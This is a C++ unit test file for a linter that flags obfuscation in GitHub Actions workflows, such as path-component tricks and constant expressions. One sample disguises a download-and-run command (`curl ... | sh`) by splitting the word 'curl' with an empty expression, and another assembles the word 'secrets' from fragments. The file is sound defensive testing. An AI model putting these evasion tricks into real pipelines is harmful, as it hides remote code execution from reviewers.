#include <gtest/gtest.h>

#include "audit/audit_test_util.h"

namespace sg::audit {
namespace {

using testing::LintWorkflow;

std::string Steps(const std::string& steps) {
  return "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n "
         "   steps:\n" +
         steps;
}

TEST(ObfuscationTest, UsesPathComponents) {
  auto f = LintWorkflow(
      Steps(
          R"(      - uses: actions/checkout/./@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a
      - uses: github/codeql-action//init@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a
      - uses: github/codeql-action/init/../upload-sarif@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a
      - uses: github/codeql-action/init@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a
      - uses: ./.github/actions/local
)"),
      "obfuscation");
  ASSERT_EQ(f.size(), 3u);
  EXPECT_EQ(f[0].severity, Severity::kLow);
  EXPECT_EQ(f[0].confidence, Confidence::kHigh);
  EXPECT_EQ(f[0].location->span.begin.line, 7);
  EXPECT_EQ(f[0].location->route, "jobs.a.steps[0].uses");
  EXPECT_NE(f[0].message.find("`.`"), std::string::npos);
  EXPECT_NE(f[1].message.find("empty"), std::string::npos);
  EXPECT_NE(f[2].message.find("`..`"), std::string::npos);
}

TEST(ObfuscationTest, ConstantExpressionsPointAtTheComputation) {
  auto f = LintWorkflow(
      Steps(R"(      - run: echo "${{ format('{0}{1}', 'sec', 'rets') }}"
      - run: echo "${{ github.ref == format('refs/heads/{0}', 'main') }}"
        if: ${{ !false }}
)"),
      "obfuscation");
  ASSERT_EQ(f.size(), 3u);
  EXPECT_EQ(f[0].location->span.begin.line, 7);
  EXPECT_EQ(f[0].location->span.begin.column, 24);
  EXPECT_NE(f[0].message.find("`secrets`"), std::string::npos);
  EXPECT_EQ(f[1].location->span.begin.column, 38);
  EXPECT_EQ(f[1].location->span.length,
            std::string("format('refs/heads/{0}', 'main')").size());
  EXPECT_EQ(f[2].location->route, "jobs.a.steps[1].if");
}

TEST(ObfuscationTest, LiteralsListsAndContextsAreFine) {
  // A value that is exactly one literal expression hides nothing.
  auto f = LintWorkflow(Steps(R"(      - run: echo "${{ github.ref }}"
        if: ${{ false }}
        env:
          FLAG: ${{ true }}
          NAME: ${{ 'x' }}
      - run: echo "${{ format('{0}', github.ref) }} ${{ '${{' }}"
        if: contains(fromJSON('["refs/heads/main"]'), github.ref)
)"),
                        "obfuscation");
  EXPECT_TRUE(f.empty());
}

TEST(ObfuscationTest, LiteralsInsideTextSplitWords) {
  // `c${{ '' }}url` runs curl while no search for "curl" finds it.
  auto f = LintWorkflow(
      Steps(R"(      - run: c${{ '' }}url -sSf https://example.com | sh
      - run: echo "${{ true }} ${{ github.ref }}"
)"),
      "obfuscation");
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(f[0].location->route, "jobs.a.steps[0].run");
  EXPECT_EQ(f[0].location->span.length, 2);
  EXPECT_NE(f[0].message.find("literal"), std::string::npos);
  EXPECT_EQ(f[1].location->route, "jobs.a.steps[1].run");
}

}  // namespace
}  // namespace sg::audit
